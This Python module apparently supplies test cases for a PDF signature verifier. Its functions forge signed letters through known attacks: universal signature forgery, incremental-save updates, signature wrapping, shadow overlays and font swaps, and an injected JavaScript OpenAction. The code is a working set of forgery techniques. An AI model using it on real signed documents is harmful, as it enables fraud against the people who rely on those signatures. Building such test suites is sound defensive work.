"""What forgers do to a signed PDF. Each way takes a genuine letter and gives the forged one.

The names of attacks are those of the literature on PDF signatures: universal signature forgery (USF), incremental
saving (ISA), signature wrapping (SWA), shadow attacks.
"""

import io
import re
from collections.abc import Callable

import pikepdf

Forge = Callable[[bytes], bytes]
_RANGE = re.compile(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)\]")


class Letter:
    """The numbers and texts of a letter's objects, to write updates with."""

    def __init__(self, pdf: bytes) -> None:
        self.pdf, self.document = pdf, pikepdf.open(io.BytesIO(pdf))
        self.size = int(self.document.trailer.Size)
        self.table = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        page = self.document.pages[0].obj
        self.root, self.page = self.document.Root.objgen[0], page.objgen[0]
        self.pages, self.content = self.document.Root.Pages.objgen[0], page.Contents.objgen[0]
        self.info, self.metadata = self.document.trailer.Info.objgen[0], self.document.Root.Metadata.objgen[0]
        self.font = next(iter(page.Resources.Font.values())).objgen[0]
        fields = [field.objgen[0] for field in self.document.Root.AcroForm.Fields]
        self.field = fields[0]
        self.fields = " ".join(f"{number} 0 R" for number in fields)

    def text(self, number: int, **entries: str) -> bytes:
        """The object as it is, with some entries set anew."""
        found = self.document.get_object(number, 0)
        for key in entries:
            if f"/{key}" in found:
                del found[f"/{key}"]
        more = "".join(f"/{key} {value}" for key, value in entries.items())
        return bytes(found.unparse(resolved=True))[:-2] + more.encode() + b">>"

    def updated(self, objects: dict[int, bytes], *, root: int = 0, as_stream: bool = False, free: int = 0) -> bytes:
        """An incremental update that writes these objects anew."""
        out, places = self.pdf, {}
        for number, content in objects.items():
            places[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        size, root = max(self.size, *(n + 1 for n in objects), 0), root or self.root
        facts = b"/Root %d 0 R/Info %d 0 R/Prev %d" % (root, self.info, self.table)
        at = len(out)
        if as_stream:
            places[size] = at
            rows = b"".join(b"\1" + place.to_bytes(4, "big") + b"\0" for _, place in sorted(places.items()))
            index = b" ".join(b"%d 1" % number for number in sorted(places))
            head = b"/Type/XRef/Size %d/W[1 4 1]/Index[%s]/Length %d" % (size + 1, index, len(rows))
            out += b"%d 0 obj\n<<%s%s>>\nstream\n%s\nendstream\nendobj\n" % (size, head, facts, rows)
        else:
            rows = b"".join(b"%d 1\n%010d 00000 n \n" % pair for pair in sorted(places.items()))
            rows += b"%d 1\n0000000000 00001 f \n" % free if free else b""
            out += b"xref\n%strailer\n<</Size %d%s>>\n" % (rows, size, facts)
        return out + b"startxref\n%d\n%%%%EOF\n" % at


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (head, len(content), content)


FORGED_TEXT = stream(b"BT /f0 24 Tf 100 400 Td (Rp 1.000.000.000) Tj ET")


def exchange(old: bytes, new: bytes) -> Forge:
    """The same length, so that every offset stays right."""

    def forge(pdf: bytes) -> bytes:
        assert old in pdf
        assert len(old) == len(new)
        return pdf.replace(old, new, 1)

    return forge


def with_range(change: Callable[[int, int, int, int], tuple[object, ...]]) -> Forge:
    """The range written anew in the room of the old one."""

    def forge(pdf: bytes) -> bytes:
        found = _RANGE.search(pdf)
        assert found
        numbers = " ".join(str(n) for n in change(*(int(n) for n in found.groups()))).encode()
        room = found.end() - found.start()
        return pdf[: found.start()] + (b"/ByteRange[" + numbers + b"]").ljust(room) + pdf[found.end() :]

    return forge


def gap(pdf: bytes) -> tuple[int, int]:
    found = _RANGE.search(pdf)
    assert found
    return int(found[2]), int(found[3])


def with_contents(change: Callable[[bytes], bytes]) -> Forge:
    """The container written anew in the room of the old one."""

    def forge(pdf: bytes) -> bytes:
        begins, ends = gap(pdf)
        new = change(pdf[begins:ends])
        return pdf[:begins] + new.ljust(ends - begins) + pdf[ends:]

    return forge


def flipped(pdf: bytes) -> bytes:
    place = pdf.index(b"stream") + 40
    return pdf[:place] + bytes([pdf[place] ^ 1]) + pdf[place + 1 :]


def wrapped(pdf: bytes) -> bytes:
    """SWA: the signed end is moved behind a forged middle, and the range is told to jump over it."""
    found = _RANGE.search(pdf)
    assert found
    begins, ends, length = (int(found[n]) for n in (2, 3, 4))
    letter = Letter(pdf)
    forged = b">>\nendobj\n%d 0 obj\n%s\nendobj\n" % (letter.content, FORGED_TEXT)
    moved = b"/ByteRange[0 %d %d %d]" % (begins, ends + len(forged), length)
    head = pdf[: found.start()] + moved.ljust(found.end() - found.start()) + pdf[found.end() : ends]
    return head + forged + pdf[ends:]


def with_page(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    new = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>" % (letter.pages, letter.content)
    kids = f"[{letter.page} 0 R {letter.size} 0 R]"
    return letter.updated({letter.size: new, letter.pages: letter.text(letter.pages, Kids=kids, Count="2")})


def without_page(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    return letter.updated({letter.pages: letter.text(letter.pages, Kids="[]", Count="0")})


def with_content(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    return letter.updated({letter.content: FORGED_TEXT})


def with_content_by_stream(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    return letter.updated({letter.content: FORGED_TEXT}, as_stream=True)


def with_note(pdf: bytes) -> bytes:
    """Shadow attack, hide: something is laid over the page."""
    letter = Letter(pdf)
    look = stream(b"1 1 1 rg 0 0 300 300 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]")
    note = b"<</Type/Annot/Subtype/Stamp/F 4/Rect[100 300 400 600]/AP<</N %d 0 R>>>>" % letter.size
    notes = f"[{letter.field} 0 R {letter.size + 1} 0 R]"
    page = letter.text(letter.page, Annots=notes)
    return letter.updated({letter.size: look, letter.size + 1: note, letter.page: page})


def with_field(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(nomor)/V(palsu)/F 4/Rect[100 300 400 330]/P %d 0 R>>" % letter.page
    form = f"<</SigFlags 3/Fields[{letter.fields} {letter.size} 0 R]>>"
    notes = f"[{letter.field} 0 R {letter.size} 0 R]"
    objects = {
        letter.size: field,
        letter.root: letter.text(letter.root, AcroForm=form),
        letter.page: letter.text(letter.page, Annots=notes),
    }
    return letter.updated(objects)


def with_look(pdf: bytes) -> bytes:
    """The signature's own field gets a picture that says something else."""
    letter = Letter(pdf)
    look = stream(b"BT (Sah) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]")
    field = letter.text(letter.field, AP=f"<</N {letter.size} 0 R>>", Rect="[0 0 300 300]")
    return letter.updated({letter.size: look, letter.field: field})


def with_font(pdf: bytes) -> bytes:
    """Shadow attack, replace: the same text, drawn with other letters."""
    letter = Letter(pdf)
    return letter.updated({letter.font: b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>"})


def with_metadata(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    return letter.updated({letter.metadata: stream(b"<x:xmpmeta/>", b"/Type/Metadata/Subtype/XML")})


def with_title(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    return letter.updated({letter.info: letter.text(letter.info, Title="(Surat lain)")})


def with_script(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    act = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
    return letter.updated({letter.root: letter.text(letter.root, OpenAction=act)})


def with_root(pdf: bytes) -> bytes:
    """The trailer points to another catalog, and so to other pages."""
    letter, new = Letter(pdf), Letter(pdf).size
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (new + 1)
    pages = b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (new + 2)
    return letter.updated({new: b"<</Type/Catalog/Pages %d 0 R>>" % (new + 1), new + 1: pages, new + 2: page}, root=new)


def with_freed(pdf: bytes) -> bytes:
    letter = Letter(pdf)
    return letter.updated({letter.size: b"null"}, free=letter.content)


def with_second_field(pdf: bytes) -> bytes:
    """Two fields show one signature."""
    letter = Letter(pdf)
    value = letter.document.get_object(letter.field, 0).V.objgen[0]
    field = b"<</FT/Sig/T(Lain)/V %d 0 R>>" % value
    form = f"<</SigFlags 3/Fields[{letter.fields} {letter.size} 0 R]>>"
    return letter.updated({letter.size: field, letter.root: letter.text(letter.root, AcroForm=form)})


def with_duplicate(pdf: bytes) -> bytes:
    """An object written twice, in no table: a reader that mends files may find it."""
    letter = Letter(pdf)
    return pdf + b"%d 0 obj\n%s\nendobj\n" % (letter.content, FORGED_TEXT)


def saved(pdf: bytes, **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def as_objects(pdf: bytes) -> bytes:
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def encrypted(pdf: bytes) -> bytes:
    return saved(pdf, encryption=pikepdf.Encryption(owner="x", user=""))


def attached(pdf: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["surat.pdf"] = pikepdf.AttachedFileSpec(document, pdf)
        document.save(out, compress_streams=False)
    return out.getvalue()


def evil() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(out)
    return out.getvalue()


WAYS: dict[str, Forge] = {
    "a byte of the text": flipped,
    "the number in the reason": exchange(b"/0001/DPMPTSP", b"/0002/DPMPTSP"),
    "the date": exchange(b"(D:2026", b"(D:2025"),
    "the version": exchange(b"%PDF-1.7", b"%PDF-1.4"),
    "cut at the end": lambda pdf: pdf[:-10],
    "cut in the middle": lambda pdf: pdf[: len(pdf) // 2],
    "something behind": lambda pdf: pdf + b"sampah",
    "a remark behind": lambda pdf: pdf + b"% x\n",
    "an end of its own behind": lambda pdf: pdf + b"startxref\n0\n%%EOF\n",
    "something before": lambda pdf: b"sampah\n" + pdf,
    "another file before": lambda pdf: evil() + pdf,
    "another file behind": lambda pdf: pdf + evil(),
    "range: gap too wide": with_range(lambda _, a, b, c: (0, a, b + 400, c - 400)),
    "range: gap too early": with_range(lambda _, a, b, c: (0, a - 200, b, c)),
    "range: swapped": with_range(lambda _, a, b, c: (b, c, 0, a)),
    "range: overlapping": with_range(lambda _, a, _b, c: (0, a, a - 50, c)),
    "range: beyond the file": with_range(lambda _, a, b, c: (0, a, b, c + 5000)),
    "range: too short": with_range(lambda _, a, b, c: (0, a, b, c - 100)),
    "range: not from the start": with_range(lambda _, a, b, c: (10, a - 10, b, c)),
    "range: negative": with_range(lambda _, a, b, c: (0, a, b, -c)),
    "range: empty (USF)": with_range(lambda *_: ()),
    "range: null (USF)": lambda pdf: _RANGE.sub(lambda m: b"/ByteRange null".ljust(len(m[0])), pdf, count=1),
    "range: none (USF)": exchange(b"/ByteRange", b"/BytesRange"[:10]),
    "container: zeros (USF)": with_contents(lambda old: b"<" + b"0" * (len(old) - 2) + b">"),
    "container: one zero byte (USF)": with_contents(lambda _: b"<00>"),
    "container: null (USF)": with_contents(lambda _: b"null"),
    "container: empty (USF)": with_contents(lambda _: b"<>"),
    "container: none (USF)": exchange(b"/Contents <", b"/Content2 <"),
    "container: two": with_contents(lambda old: b"<" + (old[1:2001] + old[1:2001])[: len(old) - 2] + b">"),
    "container: more behind it": with_contents(lambda old: old[:-5] + b"beef>"),
    "container: text in its room": with_contents(
        lambda old: old[:-40] + b"> /Reason (Surat lain) /X <" + b"0" * 12 + b">"
    ),
    "wrapped (SWA)": wrapped,
    "a page added (ISA)": with_page,
    "a page taken away (ISA)": without_page,
    "another text (ISA)": with_content,
    "another text, by a stream (ISA)": with_content_by_stream,
    "something laid over (shadow, hide)": with_note,
    "another font (shadow, replace)": with_font,
    "a form field": with_field,
    "a look for the signature": with_look,
    "other metadata": with_metadata,
    "another title": with_title,
    "a script": with_script,
    "another catalog (shadow, hide and replace)": with_root,
    "an object freed": with_freed,
    "two fields for one signature": with_second_field,
    "an object twice": with_duplicate,
    "an object that nothing points to": lambda pdf: Letter(pdf).updated({Letter(pdf).size: FORGED_TEXT}),
    "saved anew": saved,
    "saved anew, objects packed": as_objects,
    "encrypted": encrypted,
    "attached to another file": attached,
}
